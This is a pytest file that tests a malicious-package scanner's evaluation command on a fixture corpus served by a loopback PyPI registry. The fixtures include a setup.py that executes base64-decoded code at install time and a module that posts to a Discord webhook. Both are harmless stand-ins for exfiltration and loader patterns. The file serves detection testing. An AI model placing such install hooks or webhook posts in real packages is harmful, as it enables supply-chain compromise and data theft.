"""`pkgtrace eval` end to end on a small corpus: a malicious zip of TEST FIXTURE packages (not
malware) and benign names served by a loopback registry speaking PyPI's JSON API."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from eval.corpus import corpus_folder
from clirun import run_cli, run_cli_json
from services import FixtureRegistry
from verdict.fixtures import sdist

EVIL = {
    "evilpkg": sdist("evilpkg", {"setup.py": 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n'
                                             "from setuptools import setup\nsetup()\n"}),
    "stealer": sdist("stealer", {"setup.py": "from setuptools import setup\nsetup()\n",
                                 "stealer/__init__.py": 'import requests\nrequests.post('
                                 '"https://discord.com/api/webhooks/1/x", json={})\n'}),
}


@pytest.fixture
def corpus(tmp_path, monkeypatch):
    folder = corpus_folder(tmp_path, {f"{name}/1.0.0/{name}-1.0.0.tar.gz": data for name, data in EVIL.items()},
                           {"benign-test-pypi.txt": "# names\ngoodpkg\nhttpish\n"})
    reg = FixtureRegistry()
    reg.add_pypi_release("goodpkg", "2.0.0", {"goodpkg/__init__.py": "def add(a, b):\n    return a + b\n"})
    reg.add_pypi_release("httpish", "1.1.0", {"httpish/__init__.py": "import urllib.request\n"
                                               "def get(u):\n    return urllib.request.urlopen(u).read()\n"})
    monkeypatch.setenv("PKGTRACE_PYPI_URL", reg.url)
    yield folder
    reg.close()


def test_eval_reports_rates_rule_hits_and_slowest_and_resumes(corpus, tmp_path):
    work = tmp_path / "work"
    out = run_cli_json("eval", str(corpus), "--work", str(work), "-j", "2")
    s = out["summary"]
    assert s["malicious"]["evaluated"] == 2 and s["malicious"]["detection_rate"] == 100.0
    assert s["benign"]["evaluated"] == 2 and s["benign"]["false_positive_rate"] == 0.0
    assert s["rule_hits"]["STATIC-PY-DECODE-EXEC"] == {"malicious": 1, "benign": 0}
    assert s["rule_hits"]["STATIC-WEBHOOK-EXFIL"]["malicious"] == 1
    assert len(s["slowest"]) == 4 and all(r["seconds"] is not None for r in s["slowest"])
    assert {r["name"] for r in out["results"]} == {"evilpkg", "stealer", "goodpkg", "httpish"}

    # Resumable: stored results are reused; only a missing one is analysed again.
    results = sorted((work / "results").glob("*.json"))
    stamps = {p.name: p.stat().st_mtime_ns for p in results}
    gone = next(p for p in results if "goodpkg" in p.name)
    gone.unlink()
    again = run_cli_json("eval", str(corpus), "--work", str(work), "-j", "1")
    assert again["summary"]["benign"]["evaluated"] == 2
    for p in results:
        if p != gone:
            assert p.stat().st_mtime_ns == stamps[p.name]
    assert gone.exists()

    # Re-judging after rule changes reads the stored documents.
    rejudged = run_cli_json("eval", str(corpus), "--work", str(work), "--rejudge", "--side", "malicious")
    assert rejudged["summary"]["malicious"]["detection_rate"] == 100.0


def test_eval_human_summary_and_ci_exit_codes(corpus, tmp_path):
    work = tmp_path / "work"
    proc = run_cli("eval", str(corpus), "--work", str(work), "--side", "malicious")
    assert "detection" in proc.stderr and "100.0%" in proc.stderr and "rules (precision" in proc.stderr
    proc = run_cli("eval", str(corpus), "--work", str(work), "--side", "malicious",
                   "--min-detection", "100.1", check=False)
    assert proc.returncode == 1


def test_eval_rejects_a_folder_without_a_corpus(tmp_path):
    proc = run_cli("eval", str(tmp_path), check=False)
    assert proc.returncode == 2 and "benign" in proc.stderr
    proc = run_cli("eval", str(tmp_path / "missing"), check=False)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
